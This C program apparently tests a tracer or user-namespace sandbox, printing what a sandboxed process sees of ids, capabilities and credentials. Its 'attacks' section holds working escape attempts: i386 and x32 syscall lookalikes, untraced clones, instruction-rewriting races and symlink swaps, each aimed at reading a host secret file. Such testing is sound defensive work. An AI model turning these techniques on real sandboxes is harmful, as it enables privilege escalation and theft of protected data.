/* What a process of a user namespace sees of ids and may do with them. Each word is one part; all print what they find. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/fsuid.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *word(long result) { return result < 0 ? strerrorname_np(errno) : "ok"; }

static void ids(const char *when)
{
    uid_t r, e, s;
    gid_t rg, eg, sg;
    gid_t groups[32];
    getresuid(&r, &e, &s);
    getresgid(&rg, &eg, &sg);
    int count = getgroups(32, groups);
    printf("%s: %d %d %d / %d %d %d, %d %d %d %d, groups", when, r, e, s, rg, eg, sg, getuid(), geteuid(), getgid(), getegid());
    for (int i = 0; i < count; i++)
        printf(" %d", groups[i]);
    printf("\n");
}

static void sets(const char *when)
{
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    syscall(SYS_capget, &header, data);
    printf("%s: effective %x permitted %x inheritable %x\n", when, data[0].effective, data[0].permitted, data[0].inheritable);
}

static void identity(void)
{
    gid_t groups[] = {5, 6, 7};
    ids("begin");
    printf("auxv %lu %lu %lu\n", getauxval(AT_UID), getauxval(AT_EUID), getauxval(AT_SECURE));
    printf("setgroups %s, unmapped %s\n", word(setgroups(3, groups)), word(setgroups(1, (gid_t[]){70000})));
    ids("groups");
    printf("setresgid %s\n", word(setresgid(10, 20, 30)));
    printf("setfsuid %d", setfsuid(33));
    printf(" %d\n", setfsuid(-1));
    setfsuid(0);
    printf("unmapped %s %s\n", word(setuid(70000)), word(setresuid(0, 70000, 0)));
    printf("setresuid %s\n", word(setresuid(1, 2, 3)));
    ids("changed");
    printf("back %s\n", word(setuid(0)));
    printf("swap %s\n", word(setresuid(3, 1, 2)));
    ids("swapped");
    printf("setgroups %s setgid %s\n", word(setgroups(0, NULL)), word(setgid(77)));
}

static void privileges(void)
{
    sets("begin");
    printf("keepcaps %s", word(prctl(PR_SET_KEEPCAPS, 1)));
    printf(" %d\n", prctl(PR_GET_KEEPCAPS));
    printf("setuid %s\n", word(setresuid(1000, 1000, 1000)));
    sets("kept");
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2] = {{1 << CAP_SETUID, 1 << CAP_SETUID | 1 << CAP_CHOWN, 0}, {0, 0, 0}};
    printf("capset %s\n", word(syscall(SYS_capset, &header, data)));
    sets("less");
    data[0].permitted |= 1 << CAP_KILL;
    printf("more %s\n", word(syscall(SYS_capset, &header, data)));
    printf("setuid %s\n", word(setresuid(5, 6, 7)));
    printf("bounding %d, drop %s\n", prctl(PR_CAPBSET_READ, CAP_CHOWN), word(prctl(PR_CAPBSET_DROP, CAP_CHOWN)));
    printf("no_new_privs %d", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    printf(" %s", word(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)));
    printf(" %d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
}

static void messages(int first, int last)
{
    int pair[2], one = 1;
    char buffer[256] = {0}, byte = 'x';
    struct ucred *found, peer;
    socklen_t size = sizeof peer;
    gid_t groups[8] = {4, 24};
    socklen_t length = sizeof groups;
    if (first)
        setgroups(2, groups);
    socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
    if (first) {
        groups[0] = groups[1] = 0;
        printf("groups %s", word(getsockopt(pair[0], SOL_SOCKET, 59 /* SO_PEERGROUPS */, groups, &length)));
        printf(" %d %d %d\n", (int)length, groups[0], groups[1]);
    }
    setsockopt(pair[1], SOL_SOCKET, SO_PASSCRED, &one, sizeof one);
    getsockopt(pair[0], SOL_SOCKET, SO_PEERCRED, &peer, &size);
    printf("peer %d %d\n", peer.uid, peer.gid);
    struct iovec vector = {&byte, 1};
    struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = buffer, .msg_controllen = CMSG_SPACE(sizeof peer)};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_CREDENTIALS;
    head->cmsg_len = CMSG_LEN(sizeof peer);
    found = (struct ucred *)CMSG_DATA(head);
    for (int round = first; round < last; round++) {
        static const int ids[][2] = {{0, 0}, {1000, 1001}, {0, 5}, {70000, 0}};
        message.msg_controllen = CMSG_SPACE(sizeof peer);
        *found = (struct ucred){getpid(), ids[round][0], ids[round][1]};
        int sent = sendmsg(pair[0], &message, 0);
        printf("send %s, still %d\n", word(sent), found->uid);
        if (sent < 0)
            continue;
        message.msg_controllen = sizeof buffer;
        printf("receive %s", word(recvmsg(pair[1], &message, 0)));
        printf(" %d %d\n", found->uid, found->gid);
    }
}

static void *thread_of(void *argument)
{
    char **argv = argument;
    execv(argv[0], argv);
    return NULL;
}

static char *crowd_argv[] = {"/proc/self/exe", "identity-short", NULL};

static void *executing(void *unused)
{
    usleep(2000);
    execv(crowd_argv[0], crowd_argv);
    return unused;
}

static void crowd(void)
{
    /* a thread executes while the process's first, whose place it takes, is busy */
    struct stat status;
    for (int round = 0; round < 40; round++) {
        pid_t child = fork();
        if (child == 0) {
            pthread_t thread;
            pthread_create(&thread, NULL, executing, NULL);
            for (;;) {
                chown("/proc/../usr/../bin/../tmp/../root/../etc/../dev/../root", 0, 0); /* takes a tracer its time */
                stat("/root", &status);
                getuid();
            }
        }
        waitpid(child, NULL, 0);
    }
    printf("secret kept\n");
}

static void *filtered_thread(void *argument)
{
    char *argv[] = {argument, "privileges", NULL};
    struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog program = {1, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    syscall(SYS_prctl, PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
    execv(argv[0], argv);
    return NULL;
}

static void *confined_thread(void *argument)
{
    char *argv[] = {argument, "identity-short", NULL};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    execv(argv[0], argv);
    return NULL;
}

static void thread_without_privileges(char *program)
{
    /* what counts at an exec is what its thread has set, not the process's first */
    pthread_t thread;
    pthread_create(&thread, NULL, program ? confined_thread : filtered_thread, program ? program : "/proc/self/exe");
    pthread_join(thread, NULL);
}

static void threads(const char *self)
{
    pthread_t thread;
    char *argv[] = {"/proc/self/exe", "identity-short", NULL};
    (void)self;
    pthread_create(&thread, NULL, thread_of, argv);
    pthread_join(thread, NULL);
}

static void filter(const char *self)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_capset, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_KILL),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {4, code};
    setresuid(1000, 1000, 1000);
    printf("without %s\n", word(prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program)));
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    printf("with %s\n", word(prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program)));
    ids("filtered");
    fflush(stdout);
    execl("/proc/self/exe", self, "identity-short", NULL);
}

static void pointers(void)
{
    void *bad = (void *)8;
    printf("%s", word(syscall(SYS_capget, bad, bad)));
    printf(" %s", word(syscall(SYS_capset, bad, bad)));
    printf(" %s", word(syscall(SYS_utimensat, AT_FDCWD, "/", bad, 0)));
    printf(" %s", word(syscall(SYS_setgroups, 3, bad)));
    printf(" %s\n", word(syscall(SYS_chown, bad, 0, 0)));
    printf("%s", word(syscall(SYS_stat, "/", bad)));
    printf(" %s", word(syscall(SYS_getresuid, bad, bad, bad)));
    printf(" %s\n", word(syscall(SYS_open, bad, 0)));
}

static void ring(int signal) { (void)signal; }

static void signals(void)
{
    /* a pipe of somebody else's that root opens, which takes until somebody writes, and a signal comes meanwhile */
    struct sigaction action = {.sa_handler = ring};
    mkfifo("/tmp/pipe", 0600);
    printf("chown %s\n", word(chown("/tmp/pipe", 1000, 1000)));
    sigaction(SIGALRM, &action, NULL);
    alarm(1);
    int fd = open("/tmp/pipe", O_RDONLY);
    printf("interrupted %s\n", word(fd));
    action.sa_flags = SA_RESTART;
    sigaction(SIGALRM, &action, NULL);
    if (fork() == 0) {
        sleep(2);
        int out = open("/tmp/pipe", O_WRONLY);
        write(out, "done\n", 5);
        _exit(0);
    }
    alarm(1);
    char text[8] = {0};
    fd = open("/tmp/pipe", O_RDONLY);
    read(fd, text, 7);
    printf("restarted %s %s", word(fd), text);
    wait(NULL);
}

/* --- attacks ------------------------------------------------------------------------------------------------------ */

static long i386(long number, long first, long second, long third)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(third) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static int reads(const char *path)
{
    int fd = open(path, O_RDONLY);
    if (fd >= 0)
        close(fd);
    return fd >= 0;
}

static void lookalikes(const char *secret)
{
    /* capset and the calls that change ids, of i386 and of x32 */
    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    struct __user_cap_header_struct *header = (void *)low;
    struct __user_cap_data_struct *data = (void *)(low + 64);
    *header = (struct __user_cap_header_struct){_LINUX_CAPABILITY_VERSION_3, 0};
    data[0] = (struct __user_cap_data_struct){0xFFFFFFFF, 0xFFFFFFFF, 0};
    data[1] = (struct __user_cap_data_struct){0, 0, 0};
    for (int more = 0; more < 2; more++) {
        data[0].effective = data[0].permitted = more ? 0xC0 : 0xFFFFFFFF;
        i386(185, (long)low, (long)(low + 64), 0);
        syscall(0x40000000 | SYS_capset, low, low + 64);
        for (int uid = 0; uid < 2; uid++) {
            static const int numbers[] = {23, 46, 70, 71, 138, 139, 164, 170, 203, 204, 208, 210, 213, 214, 215, 216};
            for (unsigned place = 0; place < sizeof numbers / sizeof *numbers; place++)
                i386(numbers[place], uid, uid, uid);
        }
        syscall(0x40000000 | SYS_setresuid, 0, 0, 0);
        syscall(0x40000000 | SYS_setuid, 0);
        printf("secret %s\n", reads(secret) ? "READ" : "kept");
    }
    ids("after");
}

static void untraced(const char *secret)
{
    /* children that ask to be born without their parent's tracer, by both tables, and what they then would do */
    const long flag = 0x00800000;
    int status;
    for (int table = 0; table < 2; table++) {
        if (fork()) { /* a kernel without the calls of i386 ends who makes one */
            wait(NULL);
            continue;
        }
        long child = table ? i386(120, flag | SIGCHLD, 0, 0) : syscall(SYS_clone, flag | SIGCHLD, 0, 0, 0, 0);
        if (child == 0) {
            struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
            struct __user_cap_data_struct data[2] = {{0xC0, 0xC0, 0}, {0, 0, 0}};
            syscall(SYS_capset, &header, data);
            syscall(SYS_setresuid, 0, 0, 0);
            _exit(reads(secret) ? 9 : 0);
        }
        if (child > 0 && waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 9)
            printf("secret READ\n");
        _exit(0);
    }
    gid_t ids[3] = {9, 9, 9};
    long result;
    /* getresgid with the flag where the other table has it */
    __asm__ volatile("syscall" : "=a"(result) : "a"(SYS_getresgid), "D"(ids), "S"(ids + 1), "d"(ids + 2), "b"(flag) : "rcx", "r11", "memory");
    printf("getresgid %ld %d %d %d\nsecret kept\n", result, ids[0], ids[1], ids[2]);
}

static unsigned char *site;
static volatile int running = 1;

static void *flip(void *unused)
{
    while (running) {
        *(volatile unsigned short *)site = 0x80CD; /* int $0x80, in one piece */
        for (volatile int i = 0; i < 50; i++)
            ;
        *(volatile unsigned short *)site = 0x050F; /* syscall */
        for (volatile int i = 0; i < 50; i++)
            ;
    }
    return unused;
}

static void *scribble(void *stack)
{
    /* what the tracer writes below a stack: capability sets and their header */
    while (running)
        for (unsigned long *at = stack; at < (unsigned long *)stack + 512; at++)
            if ((*at & 0xFFFFFFFF) == 0x20080522)
                at[1] = at[2] = 0xFFFFFFFFFFFFFFFF;
    return NULL;
}

static void race(const char *secret)
{
    /* while a thread changes ids another rewrites its instruction, and a third what is in its memory */
    unsigned char code[] = {0x89, 0xF8, 0x89, 0xF7, 0x89, 0xD6, 0x89, 0xCA, 0x0F, 0x05, 0xC3};
    unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    static char stack[65536] __attribute__((aligned(16)));
    pthread_t flipper, scribbler;
    int found = 0, status, ended = 0;
    memcpy(page, code, sizeof code);
    site = page + 8;
    for (int round = 0; round < 10; round++) {
        pid_t child = fork();
        if (child == 0) {
            long (*call)(long, long, long, long) = (void *)page;
            alarm(20); /* a filter may end one thread alone */
            pthread_create(&flipper, NULL, flip, NULL);
            pthread_create(&scribbler, NULL, scribble, (char *)&call - 4096);
            for (int i = 0; i < 50; i++) {
                call(SYS_setresuid, 0, 0, 0);
                call(SYS_chmod, (long)secret, 0644, 0);  /* of i386: mmap */
                call(SYS_setuid, 0, 0, 0);               /* getitimer; never a number that is i386's fork */
                if (reads(secret))
                    _exit(9);
            }
            _exit(0);
        }
        waitpid(child, &status, 0);
        ended++;
        found += WIFEXITED(status) && WEXITSTATUS(status) == 9;
    }
    (void)stack;
    printf("rounds %d, secret %s\n", ended, found ? "READ" : "kept");
}

static void *rename_links(void *unused)
{
    while (running) {
        unlink("/tmp/link");
        symlink("/tmp/mine", "/tmp/link");
        unlink("/tmp/link");
        symlink("/host/secret", "/tmp/link");
    }
    return unused;
}

static void links(const char *secret)
{
    /* owners and modes of a file that is exchanged for the host's */
    pthread_t thread;
    close(open("/tmp/mine", O_CREAT | O_WRONLY, 0600));
    pthread_create(&thread, NULL, rename_links, NULL);
    time_t until = time(NULL) + 3;
    int got = 0;
    while (time(NULL) < until) {
        chown("/tmp/link", 1000, 1000);
        chmod("/tmp/link", 02777);
        chown("/tmp/link", 0, 0);
        int fd = open("/tmp/link", O_RDWR | O_NOFOLLOW);
        if (fd >= 0)
            close(fd);
        got += reads(secret);
    }
    running = 0;
    pthread_join(thread, NULL);
    struct stat status;
    stat(secret, &status);
    printf("secret %s, owner %d mode %o\n", got ? "READ" : "kept", status.st_uid, status.st_mode & 07777);
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(what, "identity"))
        identity();
    else if (!strcmp(what, "identity-short"))
        ids("executed"), sets("executed");
    else if (!strcmp(what, "privileges"))
        privileges();
    else if (!strcmp(what, "messages"))
        messages(0, 1);
    else if (!strcmp(what, "others")) /* root sends ids that are not its own */
        messages(1, 4);
    else if (!strcmp(what, "threads"))
        threads(argv[0]);
    else if (!strcmp(what, "confined-thread"))
        thread_without_privileges(argv[2]);
    else if (!strcmp(what, "crowd"))
        crowd();
    else if (!strcmp(what, "filter"))
        filter(argv[0]);
    else if (!strcmp(what, "signals"))
        signals();
    else if (!strcmp(what, "pointers"))
        pointers();
    else if (!strcmp(what, "lookalikes"))
        lookalikes(argv[2]);
    else if (!strcmp(what, "untraced"))
        untraced(argv[2]);
    else if (!strcmp(what, "race"))
        race(argv[2]);
    else if (!strcmp(what, "links"))
        links(argv[2]);
    return 0;
}
